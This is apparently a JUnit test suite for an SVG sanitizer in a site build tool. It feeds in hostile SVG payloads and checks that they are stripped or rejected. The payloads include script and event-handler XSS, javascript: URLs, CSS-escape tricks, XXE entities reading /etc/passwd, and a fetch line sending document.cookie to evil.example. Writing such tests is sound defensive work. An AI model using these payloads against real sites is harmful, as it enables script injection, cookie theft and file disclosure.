package io.github.kudos.image;

import io.github.kudos.TestSite;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Path;
import java.util.Locale;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** A hostile corpus: every way an SVG logo could run script or reach outside itself comes out inert. */
class SvgSanitizerTest {
    private static final String OPEN = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 10 10\">";

    @TempDir
    Path dir;

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script>",
            "<script type=\"application/ecmascript\"><![CDATA[fetch('https://evil.example/'+document.cookie)]]></script>",
            "<svg:script xmlns:svg=\"http://www.w3.org/2000/svg\">alert(1)</svg:script>",
            "<rect width=\"10\" height=\"10\" onload=\"alert(1)\"/>",
            "<rect width=\"10\" height=\"10\" ONMOUSEOVER=\"alert(1)\"/>",
            "<g onclick=\"alert(1)\"><rect width=\"1\" height=\"1\"/></g>",
            "<a href=\"javascript:alert(1)\"><rect width=\"10\" height=\"10\"/></a>",
            "<a xlink:href=\"JaVaScRiPt:alert(1)\"><text>x</text></a>",
            "<a href=\" java&#x09;script:alert(1)\"><text>x</text></a>",
            "<a href=\"https://evil.example/\"><text>x</text></a>",
            "<image href=\"https://evil.example/track.png\" width=\"10\" height=\"10\"/>",
            "<image xlink:href=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" width=\"10\" height=\"10\"/>",
            "<use href=\"https://evil.example/sprite.svg#icon\"/>",
            "<use xlink:href=\"file:///etc/passwd#x\"/>",
            "<foreignObject width=\"10\" height=\"10\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></body></foreignObject>",
            "<iframe src=\"https://evil.example/\"/>",
            "<rect width=\"10\" height=\"10\" style=\"fill:url(https://evil.example/p.svg#g)\"/>",
            "<rect width=\"10\" height=\"10\" fill=\"url('http://evil.example/x#y')\"/>",
            "<style>@import url(https://evil.example/x.css); rect { fill: red }</style>",
            "<style>rect { background: url(//evil.example/beacon) }</style>",
            "<set attributeName=\"href\" to=\"javascript:alert(1)\"/>",
            "<a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text>x</text></a>",
            "<a href=\"#ok\"><set attributeName=\"onmouseover\" to=\"alert(1)\"/></a>",
            "<animate attributeName=\"fill\" values=\"red;javascript:alert(1)\"/>",
            "<handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler>",
            "<?xml-stylesheet href=\"https://evil.example/x.xsl\" type=\"text/xsl\"?><rect width=\"1\" height=\"1\"/>",
            "<xsl:element xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" name=\"script\">alert(1)</xsl:element>",
            "<h:img xmlns:h=\"http://www.w3.org/1999/xhtml\" srcset=\"https://evil.example/a.png 1x\"/>",
            "<rect xmlns:x=\"http://www.w3.org/1999/XSL/Transform\" x:use-attribute-sets=\"alert\" width=\"1\" height=\"1\"/>",
            "<style>@im\\70 ort \"https://evil.example/i.css\"; rect{fill:u\\72l(https://evil.example/e#x)}</style>",
            "<style>rect{background-image:image-set(\"https://evil.example/i.png\" 1x)}</style>",
            "<rect width=\"1\" height=\"1\" style=\"fill:u\\rl(https://evil.example/s#x)\"/>",
    })
    void hostileMarkupIsRemoved(String hostile) throws SvgSanitizer.Failure {
        SvgSanitizer.Result result = SvgSanitizer.sanitize(OPEN + hostile + "<circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"url(#grad)\"/></svg>");
        String svg = result.svg().toLowerCase(Locale.ROOT);
        assertThat(result.removed()).as(hostile).isNotEmpty();
        assertThat(svg).doesNotContain("<script").doesNotContain("script>").doesNotContain("javascript")
                .doesNotContain("evil.example").doesNotContain("foreignobject").doesNotContain("data:")
                .doesNotContain("file:").doesNotContain("alert").doesNotContain("@import").doesNotContain("<iframe")
                .doesNotContain("<handler").doesNotContain("xml-stylesheet");
        assertThat(svg).doesNotContainPattern("\\son[a-z]+\\s*=");
        assertThat(svg).contains("<circle").contains("url(#grad)");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<?xml-stylesheet type=\"text/xsl\" href=\"x.svg\"?>",
            "<?xml-stylesheet type=\"text/css\" href=\"https://evil.example/x.css\"?><!-- a comment -->",
    })
    void processingInstructionsBeforeTheRootAreRemoved(String prolog) throws SvgSanitizer.Failure {
        SvgSanitizer.Result result = SvgSanitizer.sanitize(prolog + OPEN + "<rect width=\"1\" height=\"1\"/></svg>");
        assertThat(result.removed()).contains("processing instruction or entity");
        assertThat(result.svg()).doesNotContain("xml-stylesheet").doesNotContain("evil.example").startsWith("<svg");
    }

    @Test
    void anSvgNestedTooDeeplyIsAFailureNotACrash() {
        String deep = OPEN + "<g>".repeat(40_000) + "</g>".repeat(40_000) + "</svg>";
        assertThatThrownBy(() -> SvgSanitizer.sanitize(deep)).isInstanceOf(SvgSanitizer.Failure.class)
                .hasMessageContaining("nested");
    }

    @Test
    void aCleanLogoKeepsItsDrawingAndInternalReferences() throws SvgSanitizer.Failure {
        String logo = OPEN + "<defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"#fff\"/></linearGradient>"
                + "<path id=\"p\" d=\"M0 0h10v10z\"/></defs><use href=\"#p\" fill=\"url(#g)\"/><use xlink:href=\"#p\"/>"
                + "<text x=\"1\" y=\"9\" style=\"font-weight:bold\">Café</text></svg>";
        SvgSanitizer.Result result = SvgSanitizer.sanitize(logo);
        assertThat(result.removed()).isEmpty();
        assertThat(result.svg()).contains("<use fill=\"url(#g)\" href=\"#p\"/>").contains("xlink:href=\"#p\"").contains("Café");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&xxe;</text></svg>",
            "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&c;</text></svg>",
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    })
    void aDoctypeCannotBeMadeSafe(String hostile) {
        assertThatThrownBy(() -> SvgSanitizer.sanitize(hostile)).isInstanceOf(SvgSanitizer.Failure.class)
                .hasMessageContaining("DOCTYPE");
    }

    @Test
    void somethingThatIsNotAnSvgCannotBeMadeSafe() {
        assertThatThrownBy(() -> SvgSanitizer.sanitize("<html><body>hi</body></html>"))
                .hasMessage("not an SVG image: the root element is <html>, not <svg>");
        assertThatThrownBy(() -> SvgSanitizer.sanitize("<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <rect>\n</svg>"))
                .isInstanceOf(SvgSanitizer.Failure.class).hasMessageStartingWith("SVG is not well-formed XML: ")
                .satisfies(e -> assertThat(((SvgSanitizer.Failure) e).line()).isEqualTo(3));
    }

    @Test
    void throughTheBuildAHostileLogoIsPublishedInertAndAnUnsafeOneIsAnErrorWithItsPath() {
        String consent = "consent: { given: 2024-05-02, scope: [name, logo] }\n";
        TestSite site = TestSite.of(dir, TestSite.SITE + """
                -- content/clients/coho.yaml --
                name: Coho Café
                logo: assets/logos/coho.svg
                """ + consent + """
                -- content/assets/logos/coho.svg --
                <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert('MARKER-ONLOAD')"><script>alert('MARKER-SCRIPT')</script><rect width="10" height="10"/></svg>
                """);
        var run = site.build();
        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.err()).contains("content/assets/logos/coho.svg:1:1: warning: removed from the SVG before publishing it: "
                + "<script> element, event handler attribute onload");
        assertThat(site.read("assets/logos/coho.svg")).doesNotContain("MARKER").contains("<rect height=\"10\" width=\"10\"/>");

        site.with("content/assets/logos/coho.svg", """
                <?xml version="1.0"?>
                <!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                <svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>
                """);
        var bad = site.build();
        assertThat(bad.exitCode()).isEqualTo(1);
        assertThat(bad.errorLines()).singleElement().asString()
                .startsWith("content/assets/logos/coho.svg:2:")
                .contains(": error: SVG has a DOCTYPE, and DOCTYPEs (entities, external DTDs) are not allowed"
                        + " (an SVG that cannot be made safe is not published)");
    }
}
